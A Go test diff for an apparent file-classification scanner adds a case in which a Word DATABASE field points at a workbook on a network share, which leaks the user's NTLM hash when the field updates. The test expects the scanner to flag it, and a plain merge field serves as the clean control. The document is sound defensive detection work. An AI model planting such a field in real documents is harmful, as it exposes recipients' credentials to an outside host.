@@ -423,3 +423,19 @@ func TestOOXMLSVGPictures(t *testing.T) {
 	}
 	runClassify(t, cases)
 }
+
+// TestWordDatabaseField: a Word DATABASE field fetches rows from the
+// database its \d switch names (a workbook on a share: the NTLM hash)
+// when it updates, as INCLUDETEXT fetches a text: it blocks keeping the
+// document. Before, it had no finding (red team).
+func TestWordDatabaseField(t *testing.T) {
+	cases := []classifyCase{
+		{name: "DATABASE from a workbook on a share", filename: "a.docx",
+			data:  docx(t, deflate("word/document.xml", wordField(` DATABASE \d "\\\\192.0.2.1\\s\\名簿.xlsx" \s "SELECT * FROM `+"`Sheet1$`"+`" \h `))),
+			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: external reference database field in word/document.xml"}},
+		{name: "clean, a merge field", filename: "a.docx",
+			data:  docx(t, deflate("word/document.xml", wordField(` MERGEFIELD 氏名 `))),
+			class: ClassOffice, sniffed: mimeDocx, clean: true},
+	}
+	runClassify(t, cases)
+}
